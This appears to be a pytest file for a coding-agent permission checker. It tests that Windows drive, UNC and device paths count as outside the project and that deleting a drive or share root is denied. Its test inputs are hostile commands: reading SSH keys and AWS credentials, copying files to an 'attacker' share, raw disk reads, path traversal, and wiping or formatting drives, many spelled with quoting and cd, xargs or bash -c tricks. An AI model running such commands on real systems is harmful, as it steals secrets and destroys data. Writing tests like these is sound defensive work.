"""Windows places where a command may run on Windows (SPEC §5 where it runs, R6.2, R4.6).

An action decided with runs_in "agent" (a coding agent's hook: Claude Code, Codex and the Gemini CLI also run on
Windows, in Git Bash, WSL or PowerShell) or "host" may run on a Windows machine. There a Windows absolute path --
a drive (`C:\\`, `c:/x`), an extended or device path (`\\\\?\\C:\\`, `\\\\.\\PhysicalDrive0`), a UNC path
(`\\\\server\\share`) -- is outside the path scope however the shell quoting spells it, and a drive or share root
as a deletion target is the floor, as `rm -rf /` is; so are Windows' own deleters on a drive root
(`Remove-Item -Recurse -Force C:\\`, `rd /s /q C:\\`, `format C:`, `Clear-Disk`). In Brabo's own sandbox (Linux)
`C:/x` is a folder of the project: the same commands answer there as they did before.
"""

from __future__ import annotations

import pytest

from permissions.decide import ProjectState

from .helpers import AUTO_MODE, HOST, term

OFF_THE_SANDBOX = ("agent", "host")


def run(command, runs_in, *, project=HOST, autonomy=AUTO_MODE, allow=()):
    return term(command, allow, project=project, autonomy=autonomy, runs_in=runs_in)


def answer(command, runs_in, **kw):
    v = run(command, runs_in, **kw)
    return f"{v.decision}:{v.reason}"


# What Brabo's sandbox answers for these commands, as it did before Windows places were read (auto mode, where
# the path scope is dropped there): auto_approve by autonomy unless listed.
SANDBOX_AS_BEFORE = {
    "sudo rm -rf C:/": "require_approval:cap_privileged",
    "cd C:/ && rm -rf *": "require_approval:unparseable",
    r"cd 'C:\' && rm -rf ./*": "require_approval:unparseable",
    r"cd /d C:\ && rm -rf *": "require_approval:unparseable",
    "cd C:/Windows && rm -rf ..": "require_approval:unparseable",
    "(cd D:/; rm -rf *)": "require_approval:unparseable",
    "echo C:/ | xargs rm -rf": "require_approval:unparseable",
    r"printf 'D:\\' | xargs rm -rf": "require_approval:unparseable",
    r"find 'C:\' -exec rm -rf {} +": "require_approval:unparseable",
}


def assert_sandbox_as_before(command):
    assert answer(command, "sandbox") == SANDBOX_AS_BEFORE.get(command, "auto_approve:autonomy"), command


OUTSIDE = [
    # drive paths, however quoted, either slash, any case
    r"cat C:/Users/me/.ssh/id_rsa",
    r"type C:\Users\me\.ssh\id_rsa",
    r"cat 'C:\Users\me\.aws\credentials'",
    r'cat "C:\Users\me\.aws\credentials"',
    r"cat C:\\Users\\me\\.ssh\\id_rsa",
    r'cat "C:\\Users\\me\\.ssh\\id_rsa"',
    r"cat $'C:\\Users\\me\\.ssh\\id_rsa'",
    "cat \"C:\"'\\Users\\me\\.ssh\\id_rsa'",
    'cat C:"/Users/me/.ssh/id_rsa"',
    r"cat c:/users/me/.ssh/id_rsa",
    r"cat 'c:\USERS\ME\.SSH\ID_RSA'",
    r"Get-Content -Path C:\Users\me\.ssh\id_rsa",
    r"Get-Content 'C:\Users\me\.ssh\id_rsa::$DATA'",
    r"ls C:",
    "ls D:\\\\",
    r"dir 'E:\'",
    r"ls -la Z:/",
    # as a redirection's target, an option's value, an operand of any program
    r"cat README.md > C:/Users/me/Desktop/x",
    r"echo x >> 'D:\out.txt'",
    r"cp README.md --target-directory=C:\\tmp",
    r"cp README.md 'D:\backup\'",
    r"tar -czf C:/Users/me/leak.tgz .",
    r"dd if='\\.\PhysicalDrive0' of=disk.img",
    # UNC, extended and device paths
    r"cat \\\\server\\share\\x",
    r"cat '\\server\share\x'",
    r'cat "\\\\server\\share\\x"',
    "cp README.md \\\\\\\\attacker\\\\drop\\\\",
    r"cat '\/server/share/x'",
    r"cat '\\?\C:\Users\me\.ssh\id_rsa'",
    r"cat '\\?\UNC\server\share\x'",
    r"cat '\\.\PhysicalDrive0'",
    r"cat '\\.\C:\Users\me\.ssh\id_rsa'",
    # climbing across backslashes
    r"cat '..\..\..\etc\passwd'",
    r"cat ..\..\..\Users\me\.ssh\id_rsa",
    r"cat ..\\..\\..\\x",
    # hidden: bash -c, substitutions, xargs, after cd
    r"bash -c 'cat C:/Users/me/.ssh/id_rsa'",
    r"""bash -c "cat 'C:\Users\me\.ssh\id_rsa'" """,
    r"sh -c 'type C:\\Users\\me\\.ssh\\id_rsa'",
    r"echo $(cat C:/Users/me/.ssh/id_rsa)",
    r"echo `cat 'D:\x'`",
    r"diff <(cat D:/x) README.md",
    r"echo C:/Users/me/.ssh/id_rsa | xargs cat",
    r"cd C:/Users/me && cat .ssh/id_rsa",
    r"cd 'C:\Users\me' && cat .ssh/id_rsa",
    # a deleter whose target is outside the project asks in auto mode (R6.4): it is no root
    r"Remove-Item -Recurse -Force C:\Users\me\other",
    r"Remove-Item -Recurse -Force ..\other-project",
    r"rm -rf 'C:\Users\me\other'",
]


@pytest.mark.parametrize("command", OUTSIDE)
@pytest.mark.parametrize("runs_in", OFF_THE_SANDBOX)
def test_a_windows_place_is_outside_the_path_scope_off_the_sandbox(command, runs_in):
    """R6.2: auto mode never approves it off the sandbox (SPEC §5); the sandbox answers as before."""
    v = run(command, runs_in)
    assert (v.decision, v.reason) == ("require_approval", "cap_path_scope"), (command, v)
    assert_sandbox_as_before(command)


FLOOR = [
    # a drive or share root as rm's target, however spelled
    r"rm -rf 'C:\'",
    r"rm -rf D:/",
    "rm -rf C:\\\\",
    r'rm -rf "C:\\"',
    r"rm -rf C:\ ",
    r"rm -rf C:",
    r"rm -rf c:/*",
    r"rm -rf 'C:\*'",
    r"rm -rf C:\\*",
    r"rm -rf C:/.",
    r"rm -rf 'C:\Users\..'",
    r"rm -rf 'C:\Windows\..\..'",
    r"rm -rf 'C:\...'",
    r"rm -r -f E:/",
    r"rm --recursive --force 'Z:\'",
    r"rm -rf '\\server\share'",
    r"rm -rf '\\server\share\'",
    r"rm -rf '\\server\share\*'",
    "rm -rf \\\\\\\\server\\\\share\\\\",
    r"rm -rf //server/share/",
    r"rm -rf '\\?\C:\'",
    r"rm -rf '\\?\UNC\server\share\'",
    r"rm -rf '\\.\C:'",
    r"RM -RF C:/",
    r"sudo rm -rf C:/",
    r"env rm -rf 'D:\'",
    # hidden, moved there by cd, fed by xargs
    r"bash -c 'rm -rf C:/'",
    r"echo $(rm -rf 'C:\')",
    r"cd C:/ && rm -rf *",
    r"cd 'C:\' && rm -rf ./*",
    r"cd /d C:\ && rm -rf *",
    r"cd C:/Windows && rm -rf ..",
    r"(cd D:/; rm -rf *)",
    r"echo C:/ | xargs rm -rf",
    r"printf 'D:\\' | xargs rm -rf",
    r"find C:/ -delete",
    r"find 'C:\' -exec rm -rf {} +",
    # Windows' own deleters, PowerShell's and cmd's spellings, any case
    r"Remove-Item -Recurse -Force C:\ ",
    "Remove-Item -Recurse -Force C:\\\\",
    r"Remove-Item -Recurse -Force 'C:\'",
    r"remove-item -recurse -force c:/",
    r"REMOVE-ITEM -RECURSE C:\*",
    r"Remove-Item -Path C:\ -Recurse",
    r"Remove-Item -LiteralPath 'D:\' -Recurse -Force",
    r"Remove-Item C:\* -Recurse",
    "Remove-Item -Rec -Fo C:\\\\",
    r"rm -r -fo C:\ ",
    r"ri -r C:/",
    r"del /s /q C:\*",
    r"DEL /S /Q C:\*.*",
    r"erase /s /q D:\*",
    r"rd /s /q C:\ ",
    "RD /S /Q C:\\\\",
    r"rmdir /s /q C:\ ",
    r"rmdir /S/Q 'C:\'",
    r"Remove-Item -Recurse -Force '\\server\share\*'",
    r"format C:",
    r"format D: /q /y",
    r"Format-Volume -DriveLetter C",
    r"format-volume -driveletter d -filesystem NTFS",
    r"Clear-Disk -Number 0 -RemoveData",
    r"Remove-Partition -DriveLetter D",
    r"Set-Location C:\ && Remove-Item -Recurse -Force *",
    r"sl 'C:\'; ri -r -fo *",
    r"cd /d C:\ && rd /s /q .",
    r"bash -c 'Remove-Item -Recurse C:/'",
    r"Remove-Item -Recurse -Force ..\..\..\..",
    r"echo 'C:\' | xargs Remove-Item -Recurse",
]


@pytest.mark.parametrize("command", FLOOR)
@pytest.mark.parametrize("runs_in", OFF_THE_SANDBOX)
def test_deleting_a_drive_or_share_root_is_the_floor_off_the_sandbox(command, runs_in):
    """R4.6: denied with the floor's reason, whatever autonomy says; the sandbox answers as before."""
    for autonomy in (AUTO_MODE, ()):
        v = run(command, runs_in, autonomy=autonomy)
        assert (v.decision, v.reason) == ("deny", "builtin_deny"), (command, autonomy, v)
    assert_sandbox_as_before(command)


# Each Windows place beside a word that only looks like one: the place asks (or the root is denied) off the
# sandbox, the look-alike answers as it always did -- auto-approved in auto mode.
LOOKALIKES = [
    ("cat C:/Users/me/x", "sed 's:/usr:/opt:g' README.md"),
    ("cat C:/Users/me/x", "git show HEAD:src/app.py"),
    ("cat C:/Users/me/x", "curl -s http://example.com/x"),
    ("cat C:/Users/me/x", "chown u:g build"),
    ("cat C:/Users/me/x", 'echo "a:b" "C: drive"'),
    ("cat C:/Users/me/x", "awk -F: '{print $1}' README.md"),
    ("cat C:/Users/me/x", "grep -n 'C:/' README.md"),
    (r"cat '..\..\x'", r"cat src\..\README.md"),
    (r"cat '\\server\share\x'", r"printf '\tfoo\n'"),
    (r"cat '\\server\share\x'", r"paste -d '\t' a b"),
    ("rm -rf C:/", "rm -rf ./build"),
    ("rm -rf C:/", "rm -rf 'my dir'"),
    (r"Remove-Item -Recurse -Force C:\ ", "Remove-Item -Recurse -Force build"),
    ("ri -r C:/", "rmdir build"),
]


@pytest.mark.parametrize(("place", "lookalike"), LOOKALIKES)
def test_only_windows_places_are_read_as_places(place, lookalike):
    assert answer(place, "agent") in ("require_approval:cap_path_scope", "deny:builtin_deny"), place
    assert answer(lookalike, "agent") == "auto_approve:autonomy", lookalike


GIT_BASH_ROOT = ProjectState(execution_mode="runner", root="/c/Users/me/app", scope_root_id="app")
WSL_ROOT = ProjectState(execution_mode="runner", root="/mnt/c/Users/me/app", scope_root_id="app")


@pytest.mark.parametrize("project", [GIT_BASH_ROOT, WSL_ROOT], ids=["git-bash", "wsl"])
def test_a_drive_path_into_the_project_folder_is_inside_and_one_beside_it_is_not(project):
    """The project folder as Git Bash (`/c/...`) or WSL (`/mnt/c/...`) spells it is the same folder as `C:\\...`."""
    for inside in ("cat C:/Users/me/app/README.md", r"cat 'c:\Users\me\app\src\x.py'"):
        assert answer(inside, "agent", project=project, autonomy=()) == "require_approval:default", inside
        assert answer(inside, "agent", project=project, allow=("Terminal(cat)",), autonomy=()) == (
            "auto_approve:allow_rule"
        ), inside
    for outside in (
        "cat C:/Users/me/other/x",
        r"cat 'C:\Users\me\app\..\.ssh\id_rsa'",
        "cat D:/Users/me/app/x",
    ):
        v = run(outside, "agent", project=project, allow=("Terminal(cat)",), autonomy=())
        assert (v.decision, v.reason) == ("require_approval", "cap_path_scope"), outside


def test_in_the_sandbox_a_drive_like_word_is_a_folder_of_the_project():
    """SPEC §5: Brabo's sandbox is Linux; `C:/x` there is `./C:/x`, inside (as before)."""
    for command in ("cat C:/x", r"cat 'C:\x'", "rm -rf C:/", r"Remove-Item -Recurse -Force C:\ "):
        v = run(
            command, "sandbox", autonomy=(), allow=("Terminal(cat)", "Terminal(rm)", "Terminal(Remove-Item)")
        )
        assert (v.decision, v.reason) == ("auto_approve", "allow_rule"), command
        v = run(
            command, "agent", autonomy=(), allow=("Terminal(cat)", "Terminal(rm)", "Terminal(Remove-Item)")
        )
        assert v.decision != "auto_approve", command
